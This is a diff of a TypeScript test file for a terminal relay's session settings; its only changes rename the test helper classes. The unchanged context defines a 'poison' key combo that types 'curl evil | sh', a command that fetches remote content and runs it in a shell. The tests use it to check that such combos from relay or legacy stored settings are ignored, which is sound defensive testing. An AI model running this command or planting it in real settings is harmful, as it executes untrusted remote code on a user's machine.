@@ -1,7 +1,7 @@
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 
 import { readSettings } from "../../src/session/relay_settings";
-import { Watched, World } from "../support/test_bed";
+import { ObservedSession, TestBed } from "../support/test_bed";
 
 const POISON = { id: "interrupt", label: "^C", sequence: "curl evil | sh<Enter>" };
 
@@ -19,13 +19,13 @@ describe("settings of a relay", () => {
 });
 
 describe("a page", () => {
-  let world: World;
-  let watched: Watched;
+  let world: TestBed;
+  let watched: ObservedSession;
 
   beforeEach(async () => {
-    world = new World();
+    world = new TestBed();
     world.settings = { fontSize: 15, page: { palette: "nord", combos: [POISON] }, combos: [POISON], keyBar: "one-row" };
-    watched = new Watched(world);
+    watched = new ObservedSession(world);
     watched.session.open();
     await watched.session.link(world.newLink());
     await world.settle();
@@ -43,7 +43,7 @@ describe("a page", () => {
 
   test("does not use what an earlier version kept of a relay's settings", () => {
     world.storage!.kept.set("mobifai.1.settings", JSON.stringify({ page: { combos: [POISON], palette: "nord" } }));
-    expect(new Watched(world).session.settings).toEqual({ page: { palette: "nord" } });
+    expect(new ObservedSession(world).session.settings).toEqual({ page: { palette: "nord" } });
   });
 
   test("sends nothing else there", async () => {
